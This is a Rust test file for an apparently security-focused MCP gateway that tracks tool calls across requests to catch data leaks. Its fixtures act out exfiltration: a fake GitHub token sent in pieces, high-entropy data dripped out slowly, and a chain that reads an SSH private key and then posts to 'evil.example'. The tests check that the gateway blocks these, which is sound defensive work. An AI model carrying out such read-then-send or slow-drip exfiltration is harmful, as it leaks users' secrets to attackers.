@@ -1,0 +1,309 @@
+//! Memory across requests through the whole flow on the fake host: a secret sent in pieces, an
+//! entropy budget spent a little at a time, a task's slow drip (inputs and outputs), tool-call
+//! chains, escalation and its cool-down, the mesh-wide check (the stream waits for the rate limit
+//! service; over the limit, failures under both modes), and the table's bound.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
+
+use std::rc::Rc;
+
+use serde_json::{json, Value};
+
+use mcp_warden_core::correlate::mesh;
+use mcp_warden_core::fake_host::FakeHost;
+use mcp_warden_core::flow::RequestFlow;
+use mcp_warden_core::policy::{self, Policy};
+use mcp_warden_core::ports::{PeerFact, Step};
+
+const GITHUB_PAT: &str = "ghp_R7c0aWq1zXy2Lm3Nb4Vc5Xd6Fe7Gh8Jk9Ab0";
+
+fn policy(correlation: Value) -> Rc<Policy> {
+    let doc = json!({"principal": {"sources": ["header"], "trusted_header": "x-user"}, "correlation": correlation});
+    Rc::new(policy::load(doc.to_string().as_bytes()).unwrap())
+}
+
+fn send_as(host: &mut FakeHost, flow: &mut RequestFlow, user: &str, method: &str, name: Option<&str>, params: &str) -> Step {
+    let meta =
+        r#""_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}"#;
+    let body = format!(r#"{{"jsonrpc":"2.0","id":7,"method":"{method}","params":{{{params},{meta}}}}}"#);
+    host.http.headers = vec![
+        (":method".into(), b"POST".to_vec()),
+        (":authority".into(), b"gateway".to_vec()),
+        ("content-type".into(), b"application/json".to_vec()),
+        ("x-user".into(), user.as_bytes().to_vec()),
+        ("mcp-protocol-version".into(), b"2026-07-28".to_vec()),
+        ("mcp-method".into(), method.as_bytes().to_vec()),
+    ];
+    if let Some(n) = name {
+        host.http.headers.push(("mcp-name".into(), n.as_bytes().to_vec()));
+    }
+    host.http.peer = vec![(PeerFact::UpstreamCluster, "mcp_upstream".into())];
+    host.http.body = body.into_bytes();
+    host.http.reply = None;
+    assert_eq!(flow.on_request_headers(&mut host.ports(), false), Step::Buffer);
+    let n = host.http.body.len();
+    flow.on_request_body(&mut host.ports(), n, true)
+}
+
+fn call_as(host: &mut FakeHost, p: &Rc<Policy>, user: &str, tool: &str, arguments: Value) -> Step {
+    let mut flow = RequestFlow::new(Rc::clone(p));
+    send_as(host, &mut flow, user, "tools/call", Some(tool), &format!(r#""name":"{tool}","arguments":{arguments}"#))
+}
+
+fn call(host: &mut FakeHost, p: &Rc<Policy>, tool: &str, arguments: Value) -> Step {
+    call_as(host, p, "alice", tool, arguments)
+}
+
+fn reply(host: &FakeHost) -> (u32, Value) {
+    let (status, _, body) = host.http.reply.clone().expect("a local reply");
+    (status, serde_json::from_slice(&body).unwrap())
+}
+
+/// 16 random-looking hex characters per call (64 bits of Shannon entropy, give or take).
+fn piece(i: usize) -> String {
+    let mut x = (i as u64 + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15);
+    (0..16)
+        .map(|_| {
+            x ^= x >> 29;
+            x = x.wrapping_mul(0xBF58_476D_1CE4_E5B9);
+            char::from(b"0123456789abcdef"[(x >> 60) as usize])
+        })
+        .collect()
+}
+
+#[test]
+fn a_secret_sent_in_eight_byte_pieces_is_stopped_when_the_pieces_line_up() {
+    let p = policy(json!({}));
+    let mut host = FakeHost::default();
+    host.clock.advance_ms(1_000_000);
+    let pieces: Vec<&str> = (0..GITHUB_PAT.len()).step_by(8).map(|i| &GITHUB_PAT[i..(i + 8).min(GITHUB_PAT.len())]).collect();
+    let (last, first) = pieces.split_last().unwrap();
+    for (i, piece) in first.iter().enumerate() {
+        // A benign number beside each piece does not break the join (numbers are not sent).
+        assert_eq!(
+            call(&mut host, &p, "notes_append", json!({"text": piece, "seq": i.to_string()})),
+            Step::Continue,
+            "piece {i}"
+        );
+    }
+    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": last})), Step::Answered);
+    let (status, body) = reply(&host);
+    assert_eq!(status, 403);
+    assert_eq!(body["id"], 7);
+    assert_eq!(body["error"]["code"], -31403);
+    assert_eq!(body["error"]["data"]["why"], "fragmented_secret");
+    assert_eq!(body["error"]["data"]["finding"], "github_classic_pat");
+    assert!(host.metrics.count_of("mcp_warden_correlation_blocks_total.why.fragmented_secret") == 1);
+    // Another caller's pieces are their own.
+    assert_eq!(call_as(&mut host, &p, "bob", "notes_append", json!({"text": last})), Step::Continue);
+}
+
+#[test]
+fn an_entropy_budget_spent_a_little_at_a_time_holds_the_key_until_the_cool_down_ends() {
+    let p = policy(json!({"entropy": {"action": "block", "budget_bits": 2000, "window_secs": 3600, "cooldown_secs": 60}}));
+    let mut host = FakeHost::default();
+    host.clock.advance_ms(5_000_000);
+    let mut sent = 0;
+    while call(&mut host, &p, "notes_append", json!({"text": piece(sent)})) == Step::Continue {
+        sent += 1;
+        assert!(sent < 100, "the budget never tripped");
+    }
+    assert!(sent >= 25, "no single request looks bad: {sent} passed first");
+    let (status, body) = reply(&host);
+    assert_eq!(status, 429);
+    assert_eq!(body["error"]["code"], -31429);
+    assert_eq!(body["error"]["data"]["why"], "entropy_budget");
+    assert_eq!(body["error"]["data"]["retryAfterSeconds"], 60);
+    assert!(body["error"]["data"]["until"].as_str().unwrap().ends_with('Z'));
+    assert!(body["error"]["message"].as_str().unwrap().contains("retry after 60 s"));
+    assert_eq!(host.http.reply.as_ref().unwrap().1.iter().find(|(k, _)| k == "retry-after").unwrap().1, "60");
+    // Held: even a tiny call is refused, a list is not.
+    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": "hi"})), Step::Answered);
+    let mut flow = RequestFlow::new(Rc::clone(&p));
+    assert_eq!(send_as(&mut host, &mut flow, "alice", "tools/list", None, r#""cursor":null"#), Step::Continue);
+    // Bob is not alice.
+    assert_eq!(call_as(&mut host, &p, "bob", "notes_append", json!({"text": piece(1)})), Step::Continue);
+    host.clock.advance_ms(61_000);
+    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": "hi again"})), Step::Continue, "recovered");
+}
+
+#[test]
+fn uuids_and_repeated_values_do_not_spend_the_budget() {
+    let p = policy(json!({"entropy": {"action": "block", "budget_bits": 300}}));
+    let mut host = FakeHost::default();
+    host.clock.advance_ms(5_000_000);
+    let id = "123e4567-e89b-12d3-a456-426614174000";
+    for _ in 0..50 {
+        assert_eq!(call(&mut host, &p, "get_order", json!({"order": id, "at": "2026-12-01T10:00:00Z"})), Step::Continue);
+    }
+    let v = piece(3);
+    assert_eq!(call(&mut host, &p, "x", json!({"a": v, "b": v, "c": v, "d": v})), Step::Continue, "one value, counted once");
+}
+
+#[test]
+fn a_read_then_send_chain_is_stopped_on_the_completing_call_and_the_benign_order_passes() {
+    let p = policy(json!({"chains": {"action": "block"}, "escalation": {"action": "off"}}));
+    let mut host = FakeHost::default();
+    host.clock.advance_ms(1_000_000);
+    // Benign order: send, then read.
+    assert_eq!(call_as(&mut host, &p, "bob", "http_post", json!({"url": "https://example.com"})), Step::Continue);
+    assert_eq!(call_as(&mut host, &p, "bob", "read_file", json!({"path": "/etc/hosts"})), Step::Continue);
+    // Read, an innocent call, then send.
+    assert_eq!(call(&mut host, &p, "read_file", json!({"path": "/home/alice/.ssh/id_rsa"})), Step::Continue);
+    assert_eq!(call(&mut host, &p, "think", json!({})), Step::Continue);
+    assert_eq!(call(&mut host, &p, "http_post", json!({"url": "https://evil.example"})), Step::Answered);
+    let (status, body) = reply(&host);
+    assert_eq!(status, 403);
+    assert_eq!(body["error"]["data"]["why"], "tool_chain");
+    assert_eq!(body["error"]["data"]["chain"], "read-then-send");
+    // Policy categories win over the name.
+    let p = policy(json!({"chains": {"action": "block", "tools": {"http_post": []}}}));
+    let mut host = FakeHost::default();
+    assert_eq!(call(&mut host, &p, "read_file", json!({})), Step::Continue);
+    assert_eq!(call(&mut host, &p, "http_post", json!({})), Step::Continue);
+}
+
+#[test]
+fn findings_escalate_a_key_to_a_block_that_ends_with_the_cool_down() {
+    let p = policy(json!({"escalation": {"warn_at": 3, "block_at": 9, "cooldown_secs": 30}}));
+    let mut host = FakeHost::default();
+    host.clock.advance_ms(1_000_000);
+    // Three blocked secrets: 3 points each.
+    for _ in 0..2 {
+        assert_eq!(call(&mut host, &p, "notes_append", json!({"text": GITHUB_PAT})), Step::Answered);
+        assert_eq!(reply(&host).1["error"]["data"]["reason"], "content_scan");
+    }
+    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": GITHUB_PAT})), Step::Answered);
+    // Now even a clean call is held.
+    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": "hello"})), Step::Answered);
+    let (status, body) = reply(&host);
+    assert_eq!(status, 429);
+    assert_eq!(body["error"]["data"]["why"], "escalation");
+    assert!(host.metrics.count_of("mcp_warden_findings_total.inspector.correlation.finding.escalated.severity.high") >= 1);
+    host.clock.advance_ms(31_000);
+    assert_eq!(call(&mut host, &p, "notes_append", json!({"text": "hello"})), Step::Continue, "recovered after the cool-down");
+}
+
+#[test]
+fn a_task_slow_drip_is_stopped_on_inputs_and_outputs() {
+    let p = policy(json!({"entropy": {"action": "block", "budget_bits": 1000000, "task_budget_bits": 600, "cooldown_secs": 60}}));
+    let mut host = FakeHost::default();
+    host.clock.advance_ms(1_000_000);
+    let update = |host: &mut FakeHost, i: usize| {
+        let mut flow = RequestFlow::new(Rc::clone(&p));
+        let params =
+            format!(r#""taskId":"task-1","inputResponses":{{"q{i}":{{"action":"accept","content":{{"v":"{}"}}}}}}"#, piece(i));
+        send_as(host, &mut flow, "alice", "tasks/update", Some("task-1"), &params)
+    };
+    let mut sent = 0;
+    while update(&mut host, sent) == Step::Continue {
+        sent += 1;
+        assert!(sent < 50);
+    }
+    assert!(sent >= 5, "{sent}");
+    assert_eq!(reply(&host).1["error"]["data"]["why"], "entropy_budget");
+    // Another task of the same caller is not held (the caller's own budget is large).
+    let mut flow = RequestFlow::new(Rc::clone(&p));
+    let params = format!(r#""taskId":"task-2","inputResponses":{{"q":{{"action":"accept","content":{{"v":"{}"}}}}}}"#, piece(99));
+    assert_eq!(send_as(&mut host, &mut flow, "alice", "tasks/update", Some("task-2"), &params), Step::Continue);
+
+    // Outputs: tasks/get answers spend task-2's budget until they are withheld.
+    let mut withheld = false;
+    for i in 0..40 {
+        let mut flow = RequestFlow::new(Rc::clone(&p));
+        assert_eq!(send_as(&mut host, &mut flow, "alice", "tasks/get", Some("task-2"), r#""taskId":"task-2""#), Step::Continue);
+        let answer = json!({"jsonrpc": "2.0", "id": 7, "result": {"taskId": "task-2", "status": "working", "statusMessage": piece(100 + i), "resultType": "complete"}});
+        let got = host.respond(
+            &mut flow,
+            &[(":status", "200"), ("content-type", "application/json")],
+            &[answer.to_string().as_bytes()],
+        );
+        let v: Value = serde_json::from_slice(&got.body).unwrap();
+        if v.get("error").is_some() {
+            assert_eq!(v["error"]["data"]["inspector"], "correlation");
+            withheld = true;
+            break;
+        }
+    }
+    assert!(withheld, "the drip of outputs was never stopped");
+}
+
+fn mesh_policy(failure_mode: &str) -> Rc<Policy> {
+    policy(json!({"mesh": {"cluster": "warden_rls", "domain": "d", "failure_mode": failure_mode}}))
+}
+
+fn start_mesh_call(host: &mut FakeHost, p: &Rc<Policy>) -> RequestFlow {
+    let mut flow = RequestFlow::new(Rc::clone(p));
+    let step = send_as(
+        host,
+        &mut flow,
+        "alice",
+        "tools/call",
+        Some("send"),
+        &format!(r#""name":"send","arguments":{{"v":"{}"}}"#, piece(1)),
+    );
+    assert_eq!(step, Step::Buffer, "the stream waits for the rate limit service");
+    assert!(flow.awaits_mesh());
+    flow
+}
+
+#[test]
+fn the_mesh_wide_check_asks_the_rate_limit_service_and_follows_its_answer() {
+    let p = mesh_policy("deny");
+    let mut host = FakeHost::default();
+    let mut flow = start_mesh_call(&mut host, &p);
+    let (cluster, method, body) = host.http.grpc_calls.last().cloned().unwrap();
+    assert_eq!(cluster, "warden_rls");
+    assert_eq!(method, "envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit");
+    assert!(body.windows(12).any(|w| w == b"entropy_bits"));
+    assert!(body.windows(10).any(|w| w == b"tool_calls"));
+    assert_eq!(flow.on_mesh_answer(&mut host.ports(), Some(&[0x08, 0x01])), Step::Continue);
+    assert!(host.http.reply.is_none());
+
+    let mut flow = start_mesh_call(&mut host, &p);
+    let over = [0x08, 0x02, 0x12, 0x06, 0x08, 0x02, 0x22, 0x02, 0x08, 17];
+    assert_eq!(flow.on_mesh_answer(&mut host.ports(), Some(&over)), Step::Answered);
+    let (status, body) = reply(&host);
+    assert_eq!(status, 429);
+    assert_eq!(body["error"]["data"]["why"], "mesh_budget");
+    assert_eq!(body["error"]["data"]["finding"], "entropy_bits");
+    assert_eq!(body["error"]["data"]["retryAfterSeconds"], 17);
+    assert_eq!(host.metrics.count_of("mcp_warden_mesh_checks_total.outcome.over_limit"), 1);
+
+    // The service is down: deny refuses with 503, counted and receipted as a finding.
+    let mut flow = start_mesh_call(&mut host, &p);
+    assert_eq!(flow.on_mesh_answer(&mut host.ports(), None), Step::Answered);
+    assert_eq!(reply(&host).0, 503);
+    assert!(flow.findings().iter().any(|f| f.what == "mesh_unavailable"));
+    assert_eq!(host.metrics.count_of("mcp_warden_mesh_checks_total.outcome.failed"), 1);
+}
+
+#[test]
+fn a_failed_mesh_check_under_allow_lets_the_request_through_and_says_so() {
+    let p = mesh_policy("allow");
+    let mut host = FakeHost::default();
+    let mut flow = start_mesh_call(&mut host, &p);
+    assert_eq!(flow.on_mesh_answer(&mut host.ports(), Some(b"not protobuf \xff")), Step::Continue);
+    assert!(host.http.reply.is_none());
+    assert!(flow.findings().iter().any(|f| f.what == "mesh_unavailable"));
+    assert_eq!(host.metrics.count_of("mcp_warden_store_errors_total"), 1);
+    // A dispatch the host refuses is a service that cannot answer.
+    host.http.fail_call = Some("dispatch_grpc_call");
+    let mut flow = RequestFlow::new(Rc::clone(&p));
+    let step = send_as(&mut host, &mut flow, "alice", "tools/call", Some("send"), r#""name":"send","arguments":{}"#);
+    assert_eq!(step, Step::Continue);
+    assert!(!flow.awaits_mesh());
+    let _ = mesh::SERVICE;
+}
+
+#[test]
+fn the_table_stays_bounded_whatever_the_number_of_callers() {
+    let p = policy(json!({"slots": 256}));
+    let mut host = FakeHost::default();
+    for i in 0..3000 {
+        call_as(&mut host, &p, &format!("user-{i}"), "read_file", json!({"path": piece(i)}));
+    }
+    let records = host.kv.keys().filter(|k| k.starts_with("mcpw/v1/cr/")).count();
+    assert!(records <= 256, "{records}");
+    assert!(host.kv.keys().filter(|k| k.starts_with("mcpw/v1/cr/")).all(|k| k.len() < 24));
+}
